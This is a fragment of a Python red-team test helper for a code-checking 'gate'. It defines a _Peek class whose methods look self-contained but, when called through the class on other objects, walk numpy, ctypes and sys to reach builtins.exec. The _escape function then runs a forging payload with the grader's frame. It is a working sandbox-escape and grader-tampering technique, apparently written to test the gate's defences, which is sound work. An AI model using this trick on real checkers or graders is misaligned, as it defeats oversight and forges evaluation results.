# ruff: noqa: F821, F401, E721  (a part: the test puts the stub, _FORGE and hostile_peek.py before it)
# Red-team helper, appended (after `_FORGE = "..."`, tests/test_gate_redteam.py) with one hostile_*.py
# that obtains the class `_Peek` itself as a plain value. Alone this part passes the gate: every method
# reads a name the class assigns on its own `self`. Called through the class with another object first,
# each reads that object's attribute of the same name, and `_escape` walks numpy -> ctypes -> sys ->
# builtins.exec and runs the forger with the grader's frame.
import numpy as _np
import torch as _torch


class _Peek:
    def __init__(self):
        self.ctypes = self._ctypes = self._sys = self.modules = self._getframe = self.exec = None
        self._buffers = ["_" + "_class__"]  # for Module.get_buffer: "a buffer" of that name

    def forward(self):
        return self.ctypes

    def item(self):
        return self._ctypes

    def values(self):
        return self._sys

    def copy(self):
        return self.modules

    def index(self):
        return self._getframe

    def get(self):
        return self.exec

    def get_submodule(self, path):
        return self


def _escape(cls):
    """``cls`` is ``_Peek`` (or a subclass) reached as a value the gate no longer recognises."""
    sys = cls.values(cls.item(cls.forward(_np.zeros(1))))
    cls.get(cls.copy(sys)["builtins"])(_FORGE, {"_frame": cls.index(sys)()})
